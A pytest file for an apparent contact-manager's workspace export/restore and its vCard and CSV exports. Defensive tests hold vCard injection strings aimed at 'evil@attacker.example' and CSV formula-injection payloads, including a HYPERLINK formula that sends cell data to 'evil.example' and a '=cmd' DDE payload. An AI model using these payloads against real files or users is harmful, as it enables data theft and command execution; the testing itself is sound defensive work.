"""GET /export and POST /imports/workspace: a workspace out and back, exactly; contacts as vCard
and CSV."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from app.imports.export import inert_cell
from app.imports.parsers.contact_csv import read_inert_cell
from tests.conftest import (
    Api,
    Headers,
    Json,
    error_text,
    get_json,
    make_article,
    make_contact,
    snapshot,
)

SNOOZED_UNTIL = (date.today() + timedelta(20)).isoformat()


def build_workspace(client: TestClient, headers: Headers) -> dict[str, int]:
    """A workspace with everything in it: preferences, contacts with pain points (one resolved)
    and expertise, articles, gives, asks, and suggestions sent and dismissed."""
    client.patch(
        "/workspace",
        json={"default_tier": "A", "cadence_b_days": 30, "signature": "Best,\nSam"},
        headers=headers,
    ).raise_for_status()
    svp = make_contact(
        client,
        headers,
        name="Dana Reyes",
        email="dana@northwind.example",
        company="Northwind Traders",
        title="SVP HR",
        tier="B",
        notes="Met at SHRM.\nLikes data.",
        linkedin_url="https://www.linkedin.com/in/dana",
        phones=["+1 555 0100", "(555) 0199 ext. 2"],
        pain_points=[
            "Finding the right firm to run our employee engagement survey",
            {"text": "Onboarding remote hires", "noted_on": "2024-02-01"},
        ],
        last_contacted_on="2025-01-15",
    )
    expert = make_contact(
        client,
        headers,
        name="Ken Okafor",
        company="Survey Partners",
        expertise=["Running employee engagement surveys", "Choosing survey vendors"],
    )
    quiet = make_contact(client, headers, name="Zoë Ångström", tier="C", field="Consulting")
    client.delete(
        f"/contacts/{svp['id']}/pain-points/{svp['pain_points'][1]['id']}", headers=headers
    ).raise_for_status()
    vendor = make_article(
        client,
        headers,
        title="How to choose an engagement survey vendor",
        url="https://example.org/survey-vendors",
        summary="Questions to ask before you sign.",
        text="Choosing a firm to run your employee engagement survey: benchmarks, anonymity, "
        "action planning. " * 20,
        tags=["surveys", "vendors"],
        saved_on="2025-03-01",
    )
    make_article(client, headers, title="A note with no URL", text="Plain text.")

    items = get_json(client, f"/contacts/{svp['id']}/suggestions", headers, limit=5)["items"]
    article = next(i for i in items if i["kind"] == "article")
    intro = next(i for i in items if i["kind"] == "introduction")
    client.post(f"/suggestions/{article['id']}/sent", headers=headers).raise_for_status()
    client.post(
        f"/suggestions/{intro['id']}/dismiss", json={"reason": "bad_timing"}, headers=headers
    ).raise_for_status()
    check_in = get_json(client, f"/contacts/{quiet['id']}/suggestions", headers)["items"][0]
    assert check_in["kind"] == "check_in"
    client.post(
        f"/suggestions/{check_in['id']}/dismiss", json={"reason": "not_relevant"}, headers=headers
    ).raise_for_status()
    client.post(
        f"/contacts/{expert['id']}/gives",
        json={"description": "Sent a podcast", "given_on": "2025-02-02"},
        headers=headers,
    ).raise_for_status()
    client.post(
        f"/contacts/{svp['id']}/snooze", json={"until": SNOOZED_UNTIL}, headers=headers
    ).raise_for_status()
    client.post(
        f"/contacts/{expert['id']}/asks",
        json={"description": "Asked for a reference", "asked_on": "2025-02-10"},
        headers=headers,
    ).raise_for_status()
    # Touches last (a touch would take Zoë off the check-ins): a call typed in, and a message
    # imported from an .eml (its dedupe key goes along).
    client.post(
        f"/contacts/{quiet['id']}/touches",
        json={"kind": "call", "happened_at": "2025-03-04T16:30:00+01:00", "subject": "Catch-up"},
        headers=headers,
    ).raise_for_status()
    client.post(
        "/imports/touches", headers=headers, files={"file": ("survey.eml", SURVEY_EML)}
    ).raise_for_status()
    return {"svp": svp["id"], "expert": expert["id"], "quiet": quiet["id"], "article": vendor["id"]}


SURVEY_EML = (
    b"From: Dana Reyes <dana@northwind.example>\r\n"
    b"To: Sam Rivera <sam@mine.example>\r\n"
    b"Subject: =?utf-8?q?The_survey_caf=C3=A9?=\r\n"
    b"Date: Tue, 04 Mar 2025 09:15:00 +0000\r\n"
    b"Message-ID: <survey-1@northwind.example>\r\n\r\n"
    b"The body, never read.\r\n"
)


def export(client: TestClient, headers: Headers) -> Json:
    response = client.get("/export", headers=headers)
    assert response.status_code == 200, response.text
    assert "attachment" in response.headers["content-disposition"]
    document: Json = response.json()
    return document


def restore(client: TestClient, headers: Headers, data: bytes) -> Any:
    return client.post("/imports/workspace", headers=headers, files={"file": ("export.json", data)})


def comparable(document: Json) -> Json:
    """The document without what differs by design: when it was made, the workspace's name."""
    return {
        **{k: v for k, v in document.items() if k != "exported_at"},
        "workspace": {k: v for k, v in document["workspace"].items() if k != "name"},
    }


def test_export_holds_the_whole_workspace(client: TestClient, headers: Headers) -> None:
    build_workspace(client, headers)

    document = export(client, headers)

    assert (document["format"], document["version"]) == ("givefirst-workspace", 1)
    assert document["workspace"] == {
        "name": "acme",
        "default_tier": "A",
        "cadence_a_days": None,
        "cadence_b_days": 30,
        "cadence_c_days": None,
        "signature": "Best,\nSam",
    }
    dana, ken, zoe = document["contacts"]
    assert [c["ref"] for c in document["contacts"]] == [1, 2, 3]
    assert dana["email"] == "dana@northwind.example"
    assert (dana["snoozed_until"], ken["snoozed_until"]) == (SNOOZED_UNTIL, None)
    assert [(p["ref"], p["active"]) for p in dana["pain_points"]] == [(1, True), (2, False)]
    assert dana["pain_points"][1]["noted_on"] == "2024-02-01"
    assert ken["expertise"] == ["Running employee engagement surveys", "Choosing survey vendors"]
    assert (zoe["tier"], zoe["field"]) == ("C", "Consulting")
    assert [a["tags"] for a in document["articles"]] == [["surveys", "vendors"], []]
    statuses = sorted((s["kind"], s["status"]) for s in document["suggestions"])
    assert statuses == [
        ("article", "sent"),
        ("check_in", "dismissed"),
        ("introduction", "dismissed"),
    ]
    sent = next(s for s in document["suggestions"] if s["status"] == "sent")
    assert (sent["contact"], sent["article"], sent["pain_point"]) == (1, 1, 1)
    until = {s["kind"]: s["dismissed_until"] for s in document["suggestions"]}
    assert until == {
        "article": None,
        "check_in": None,  # not_relevant: for ever
        "introduction": (date.today() + timedelta(30)).isoformat(),  # bad_timing
    }
    assert sorted((g["contact"], g["kind"], g["suggestion"]) for g in document["gives"]) == [
        (1, "article", sent["ref"]),
        (2, "other", None),
    ]
    assert document["asks"] == [
        {
            "contact": 2,
            "asked_on": "2025-02-10",
            "description": "Asked for a reference",
            "created_at": document["asks"][0]["created_at"],
        }
    ]
    call, mail = document["touches"]
    assert {k: v for k, v in call.items() if k != "created_at"} == {
        "contact": 3,
        "kind": "call",
        "happened_on": datetime.fromisoformat("2025-03-04T16:30:00+01:00")
        .astimezone()
        .date()
        .isoformat(),
        "happened_at": "2025-03-04T15:30:00Z",
        "source": "manual",
        "subject": "Catch-up",
        "dedupe_key": None,
    }
    assert (mail["contact"], mail["kind"], mail["source"]) == (1, "email_received", "eml")
    assert (mail["happened_on"], mail["subject"]) == ("2025-03-04", "The survey café")
    assert len(mail["dedupe_key"]) == 64


def test_restore_round_trip_is_exact(api: Api, headers: Headers) -> None:
    ids = build_workspace(api.client, headers)
    original = export(api.client, headers)
    other = api.headers("restored")

    response = restore(api.client, other, json.dumps(original).encode())

    assert response.status_code == 200, response.text
    assert response.json() == {
        "contacts": 3,
        "articles": 2,
        "suggestions": 3,
        "gives": 2,
        "asks": 1,
        "touches": 2,
        "feeds": 0,
    }
    restored = export(api.client, other)
    assert restored["workspace"]["name"] == "restored"
    assert comparable(restored) == comparable(original)
    # What the API shows is the same too (ids aside), and the engine's memory came along: the
    # article sent to Dana is never suggested to her again, the dismissed introduction neither.
    dana = next(
        c for c in get_json(api.client, "/contacts", other)["items"] if c["name"] == "Dana Reyes"
    )
    before = get_json(api.client, f"/contacts/{ids['svp']}", headers)
    assert {k: v for k, v in dana.items() if k not in ("id", "pain_points")} == {
        k: v for k, v in before.items() if k not in ("id", "pain_points")
    }
    again = get_json(api.client, f"/contacts/{dana['id']}/suggestions", other, limit=5)["items"]
    assert all(i["kind"] not in ("article", "introduction") for i in again), again
    ledger = get_json(api.client, f"/contacts/{dana['id']}/ledger", other)
    assert [g["kind"] for g in ledger["gives"]] == ["article"]
    # Touches too, and their keys: the same message imported again logs nothing twice.
    touched = get_json(api.client, f"/contacts/{dana['id']}/touches", other)["items"]
    assert [without_ids(t) for t in touched] == [
        without_ids(t)
        for t in get_json(api.client, f"/contacts/{ids['svp']}/touches", headers)["items"]
    ]
    again_imported = api.client.post(
        "/imports/touches", headers=other, files={"file": ("survey.eml", SURVEY_EML)}
    ).json()
    assert (again_imported["logged"], again_imported["already_logged"]) == (0, 1)


def without_ids(record: Json) -> Json:
    return {k: v for k, v in record.items() if k not in ("id", "contact_id")}


def test_restored_touches_belong_to_the_restored_workspace_only(
    api: Api, headers: Headers, data_dir: Path
) -> None:
    """The document's contact refs (1, 2, 3) are also the ids of the exporting workspace's
    contacts: a restore that took a ref for an id would hang the touches on them."""
    build_workspace(api.client, headers)
    document = export(api.client, headers)
    other = api.headers("restored")

    assert restore(api.client, other, json.dumps(document).encode()).status_code == 200

    with api.app.state.session_factory() as session:
        crossed = session.execute(
            text(
                "SELECT count(*) FROM touches t JOIN contacts c ON c.id = t.contact_id "
                "WHERE c.workspace_id != t.workspace_id"
            )
        ).scalar_one()
        per_workspace = dict(
            session.execute(
                text(
                    "SELECT w.name, count(*) FROM touches t "
                    "JOIN workspaces w ON w.id = t.workspace_id GROUP BY w.name"
                )
            ).all()
        )
    assert crossed == 0
    assert per_workspace == {"acme": 2, "restored": 2}
    restored_ids = {c["id"] for c in get_json(api.client, "/contacts", other)["items"]}
    for contact in get_json(api.client, "/contacts", headers)["items"]:
        assert contact["id"] not in restored_ids
        items = get_json(api.client, f"/contacts/{contact['id']}/touches", headers)["items"]
        assert len(items) == (1 if contact["name"] in ("Dana Reyes", "Zoë Ångström") else 0)


def test_an_export_made_before_touches_still_restores(api: Api, headers: Headers) -> None:
    build_workspace(api.client, headers)
    document = export(api.client, headers)
    del document["touches"]
    other = api.headers("restored")

    response = restore(api.client, other, json.dumps(document).encode())

    assert response.status_code == 200, response.text
    assert response.json()["touches"] == 0
    assert export(api.client, other)["touches"] == []
    # The contacts' last contact came along all the same.
    assert [c["last_contacted_on"] for c in export(api.client, other)["contacts"]] == [
        c["last_contacted_on"] for c in document["contacts"]
    ]


def test_restored_records_are_indexed(api: Api, headers: Headers) -> None:
    make_article(
        api.client,
        headers,
        title="How to choose an engagement survey vendor",
        url="https://example.org/survey-vendors",
        text="Choosing a firm to run your employee engagement survey.",
    )
    make_contact(api.client, headers, name="Dana", pain_points=["Picking a survey vendor"])
    other = api.headers("restored")

    response = restore(api.client, other, api.client.get("/export", headers=headers).content)
    assert response.status_code == 200, response.text

    dana = get_json(api.client, "/contacts", other)["items"][0]
    items = get_json(api.client, f"/contacts/{dana['id']}/suggestions", other)["items"]
    assert items[0]["kind"] == "article"
    assert items[0]["article"]["url"] == "https://example.org/survey-vendors"


def test_restore_needs_an_empty_workspace(client: TestClient, headers: Headers) -> None:
    build_workspace(client, headers)
    document = client.get("/export", headers=headers).content
    before = snapshot(client, headers)

    response = restore(client, headers, document)

    assert response.status_code == 409
    assert "empty workspace" in error_text(response)
    assert snapshot(client, headers) == before


def _broken(document: Json, change: str) -> bytes:
    broken = json.loads(json.dumps(document))
    if change == "dangling-ref":
        broken["gives"][0]["contact"] = 99
    elif change == "duplicate-ref":
        broken["contacts"][1]["ref"] = 1
    elif change == "bad-email":
        broken["contacts"][0]["email"] = "not an email"
    elif change == "unknown-field":
        broken["contacts"][0]["favourite_colour"] = "blue"
    elif change == "wrong-version":
        broken["version"] = 2
    elif change == "date-after-range":
        broken["contacts"][0]["last_contacted_on"] = "9999-12-31"
    elif change == "last-contact-in-the-future":
        broken["contacts"][0]["last_contacted_on"] = (date.today() + timedelta(1)).isoformat()
    elif change == "date-before-range":
        broken["articles"][0]["saved_on"] = "0001-01-01"
    elif change == "time-at-the-last-year-with-an-offset":
        broken["contacts"][0]["created_at"] = "9999-12-31T23:00:00-05:00"
    elif change == "time-at-the-first-year-with-an-offset":
        broken["gives"][0]["created_at"] = "0001-01-01T00:00:00+01:00"
    elif change == "time-into-the-year-after-the-range-in-utc":
        broken["suggestions"][1]["acted_at"] = "2999-12-31T23:00:00-05:00"
    elif change == "nan-score":
        broken["suggestions"][0]["score"] = float("nan")  # json.dumps writes NaN
    elif change == "infinite-score":
        broken["suggestions"][2]["score"] = float("inf")  # Infinity
    elif change == "two-acted-for-one-target":
        sent = next(s for s in broken["suggestions"] if s["kind"] == "article")
        broken["suggestions"].append({**sent, "ref": 99, "status": "dismissed"})
    elif change == "an-introduction-without-its-contact":
        index = next(i for i, s in enumerate(broken["suggestions"]) if s["kind"] == "introduction")
        broken["suggestions"][index]["introduce_contact"] = None
    elif change == "touch-of-no-contact":
        broken["touches"][0]["contact"] = 99
    elif change == "two-touches-from-one-message":
        broken["touches"].append({**broken["touches"][1], "kind": "email_sent"})
    elif change == "touch-to-come":
        broken["touches"][0]["happened_on"] = (date.today() + timedelta(1)).isoformat()
    elif change == "touch-of-an-unknown-kind":
        broken["touches"][0]["kind"] = "telepathy"
    elif change == "51-active-pain-points":
        spec = broken["contacts"][0]["pain_points"][0]
        more = [{**spec, "ref": 100 + n, "text": f"Problem {n}"} for n in range(50)]
        broken["contacts"][0]["pain_points"] += more
    return json.dumps(broken).encode()


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ("dangling-ref", "no contact with ref 99"),
        ("duplicate-ref", "share a ref"),
        ("bad-email", "contacts.0.email"),
        ("unknown-field", "favourite_colour"),
        ("wrong-version", "version"),
        ("date-after-range", "contacts.0.last_contacted_on: Value error, use a date like"),
        ("last-contact-in-the-future", "contacts.0.last_contacted_on: Value error, is after today"),
        ("date-before-range", "articles.0.saved_on: Value error, use a date like"),
        ("time-at-the-last-year-with-an-offset", "contacts.0.created_at: Value error, use a time"),
        ("time-at-the-first-year-with-an-offset", "gives.0.created_at: Value error, use a time"),
        (
            "time-into-the-year-after-the-range-in-utc",
            "suggestions.1.acted_at: Value error, use a time",
        ),
        ("nan-score", "suggestions.0.score: Input should be a finite number"),
        ("infinite-score", "suggestions.2.score: Input should be a finite number"),
        (
            "two-acted-for-one-target",
            "suggestions[3]: two acted suggestions for the same target (article ref 1) of "
            "contact ref 1",
        ),
        (
            "an-introduction-without-its-contact",
            "an introduction suggestion without its introduce_contact ref",
        ),
        ("51-active-pain-points", "contacts[0] (ref 1): 51 active pain points; a contact has"),
        ("touch-of-no-contact", "no contact with ref 99"),
        (
            "two-touches-from-one-message",
            "touches[2]: two touches of contact ref 1 read from the same event or message",
        ),
        ("touch-to-come", "touches.0.happened_on: Value error, is after today"),
        ("touch-of-an-unknown-kind", "touches.0.kind"),
    ],
)
def test_a_broken_export_restores_nothing(
    api: Api, headers: Headers, change: str, expected: str
) -> None:
    build_workspace(api.client, headers)
    data = _broken(export(api.client, headers), change)
    other = api.headers("restored")
    before = snapshot(api.client, other)

    response = restore(api.client, other, data)

    assert response.status_code == 422, response.text
    assert expected in error_text(response)
    assert snapshot(api.client, other) == before


@pytest.mark.parametrize(
    ("data", "expected"),
    [(b"", "empty"), (b"{not json", "not a Givefirst workspace export"), (b"[]", "export")],
)
def test_a_file_that_is_not_an_export_is_refused(
    client: TestClient, headers: Headers, data: bytes, expected: str
) -> None:
    response = restore(client, headers, data)

    assert response.status_code == 422
    assert expected in error_text(response)
    assert get_json(client, "/contacts", headers)["total"] == 0


def test_contacts_as_vcard_import_back(api: Api, headers: Headers) -> None:
    build_workspace(api.client, headers)
    make_contact(
        api.client,
        headers,
        name="Long Notes",
        notes="Ünïcödé; commas, semicolons; and a very long line " * 4,
    )

    response = api.client.get("/export/contacts.vcf", headers=headers)

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/vcard")
    text = response.text
    assert text.count("BEGIN:VCARD") == 4
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))  # folded
    other = api.headers("restored")
    imported = api.client.post(
        "/imports/contacts", headers=other, files={"file": ("c.vcf", response.content)}
    )
    assert imported.status_code == 200, imported.text
    assert imported.json()["created"] == 4
    fields = ("name", "email", "company", "title", "linkedin_url", "notes")

    def view(key: Headers) -> list[tuple[Any, ...]]:
        items = get_json(api.client, "/contacts", key)["items"]
        return sorted(tuple(c[f] for f in fields) for c in items)

    assert view(other) == view(headers)


def test_a_lone_cr_in_a_vcard_value_does_not_split_the_card(api: Api, headers: Headers) -> None:
    """A CR left in a value ended the content line: the text after it became a property of its
    own, and the card came back with an e-mail the attacker chose."""
    make_contact(
        api.client,
        headers,
        name="Dana Reyes\rEMAIL:evil@attacker.example",
        email="dana@northwind.example",
        title="SVP\rEND:VCARD\rBEGIN:VCARD\rFN:Injected\rEMAIL:evil@attacker.example",
        notes="Met at SHRM.\r\nLikes data.\rX-EVIL:1",
    )

    exported = api.client.get("/export/contacts.vcf", headers=headers)
    other = api.headers("restored")
    imported = api.client.post(
        "/imports/contacts", headers=other, files={"file": ("c.vcf", exported.content)}
    )

    assert imported.status_code == 200, imported.text
    assert (imported.json()["created"], imported.json()["skipped"]) == (1, 0)
    (dana,) = get_json(api.client, "/contacts", other)["items"]
    assert dana["email"] == "dana@northwind.example"
    # A lone CR comes back as a line break, LF: vCard has one escape for both.
    assert dana["name"] == "Dana Reyes\nEMAIL:evil@attacker.example"
    assert dana["title"] == "SVP\nEND:VCARD\nBEGIN:VCARD\nFN:Injected\nEMAIL:evil@attacker.example"
    assert dana["notes"] == "Met at SHRM.\nLikes data.\nX-EVIL:1"


def test_contacts_as_csv(client: TestClient, headers: Headers) -> None:
    build_workspace(client, headers)

    response = client.get("/export/contacts.csv", headers=headers)

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [r["Name"] for r in rows] == ["Dana Reyes", "Ken Okafor", "Zoë Ångström"]
    dana = rows[0]
    assert dana["Email"] == "dana@northwind.example"
    assert dana["Tier"] == "B"
    assert dana["Notes"] == "Met at SHRM.\nLikes data."
    assert dana["Pain Points"] == "Finding the right firm to run our employee engagement survey"
    assert rows[1]["Expertise"] == "Running employee engagement surveys\nChoosing survey vendors"
    assert dana["Last Contacted On"] == date.today().isoformat()  # the article sent today


def test_csv_cells_a_spreadsheet_would_run_are_made_inert(
    client: TestClient, headers: Headers
) -> None:
    """OWASP CSV injection: a cell starting with = + - @ gets a leading quote; values that only
    contain them, and the JSON export, are left as they are."""
    formula = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
    make_contact(
        client,
        headers,
        name=formula,
        company="+1 555 0100",
        title="-2+3",
        field="@SUM(A1:A9)",
        notes="a=b, c+d",
        pain_points=["=cmd|' /C calc'!A0"],
    )

    response = client.get("/export/contacts.csv", headers=headers)

    (row,) = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert row["Name"] == "'" + formula
    assert (row["Company"], row["Title"], row["Field"]) == ("'+1 555 0100", "'-2+3", "'@SUM(A1:A9)")
    assert row["Pain Points"] == "'=cmd|' /C calc'!A0"
    assert (row["Notes"], row["Tier"]) == ("a=b, c+d", "B")
    exported = export(client, headers)["contacts"][0]
    assert (exported["name"], exported["company"]) == (formula, "+1 555 0100")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("x-1", "x-1"),
        ("", ""),
        ("'x", "'x"),
        ("'=1", "''=1"),  # quoted once more, so reading takes off only the quote added
    ],
)
def test_a_cell_starting_with_tab_or_cr_is_made_inert_too(value: str, cell: str) -> None:
    """Stored text is stripped, so tab and CR never start a cell the API writes; the rule has
    them anyway, as OWASP lists them."""
    assert inert_cell(value) == cell
    assert read_inert_cell(cell) == value


AWKWARD = {
    "name": "=Nadia, Ortiz; Jr.",
    "email": "nadia@example.com",
    "company": "+Plus; Minus, Inc.",
    "title": "'=already quoted",
    "field": "@Field, with; marks",
    "tier": "A",
    "pain_points": ["=Hiring, fast; cheaply", "-Keeping people: a, b; c", "Plain one"],
    "expertise": ["+Scaling teams, remote; hybrid", "Payroll"],
    "notes": "=SUM(A1)\nSecond line; with, commas\n\n-third after a blank line",
    "phones": ["+1 555 0100", "=2 (work)", "555-0199"],
    "linkedin_url": "https://www.linkedin.com/in/nadia-ortiz",
}


def contact_view(client: TestClient, headers: Headers) -> list[Json]:
    """Every contact as the exports carry it (active pain points only), in name order."""
    items = get_json(client, "/contacts", headers, limit=100)["items"]
    fields = [f for f in AWKWARD if f != "pain_points"]
    return [
        {
            **{f: c[f] for f in fields},
            "pain_points": [p["text"] for p in c["pain_points"] if p["active"]],
        }
        for c in items
    ]


@pytest.mark.parametrize("path", ["/export/contacts.csv", "/export/contacts.vcf"])
def test_the_own_contact_exports_import_back_whole(api: Api, headers: Headers, path: str) -> None:
    build_workspace(api.client, headers)
    make_contact(api.client, headers, **AWKWARD)
    exported = api.client.get(path, headers=headers)
    assert exported.status_code == 200
    empty = api.headers("empty")

    response = api.client.post(
        "/imports/contacts", headers=empty, files={"file": (path, exported.content)}
    )

    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["created"], report["skipped"]) == (4, 0), report
    assert contact_view(api.client, empty) == contact_view(api.client, headers)
    again = api.client.post(
        "/imports/contacts", headers=empty, files={"file": (path, exported.content)}
    ).json()
    assert (again["created"], again["unchanged"]) == (0, 4), again  # matched, nothing doubled
    assert contact_view(api.client, empty) == contact_view(api.client, headers)


def test_the_longest_url_exports_and_restores(api: Api) -> None:
    """1,999 characters sent, 2,000 stored once normalized (a "/" added): found by the fuzzer,
    it made every export a 500, then every restore of it."""
    source, target = api.headers("long"), api.headers("copy")
    make_article(api.client, source, title="Long", url="https://" + "0" * 1991)

    exported = api.client.get("/export", headers=source)

    assert exported.status_code == 200, exported.text[:300]
    restored = api.client.post(
        "/imports/workspace",
        files={"file": ("w.json", exported.content, "application/json")},
        headers=target,
    )
    assert restored.status_code == 200, restored.text[:300]
    assert len(get_json(api.client, "/articles", target)["items"][0]["url"]) == 2000


def _dates(schema: Json) -> Iterator[tuple[str, Json]]:
    for name, prop in schema.get("properties", {}).items():
        for choice in prop.get("anyOf", [prop]):
            if choice.get("format") == "date":
                yield name, choice


def test_one_date_range_for_every_schema(client: TestClient) -> None:
    """The dates a create takes and those a restore takes (the export document) are one range:
    a restore cannot store a day that a create would refuse."""
    schemas = client.get("/openapi.json").json()["components"]["schemas"]
    patterns = {
        f"{name}.{field}": choice.get("pattern")
        for name, schema in schemas.items()
        if name.startswith("Exported") or name.endswith(("Create", "Update"))
        for field, choice in _dates(schema)
    }

    expected = {
        "ContactCreate.last_contacted_on",
        "ExportedContact.last_contacted_on",
        "GiveCreate.given_on",
        "ExportedGive.given_on",
        "ExportedSuggestion.check_in_on",
    }
    assert expected <= set(patterns), sorted(patterns)
    assert len(set(patterns.values())) == 1, patterns
    assert None not in patterns.values()
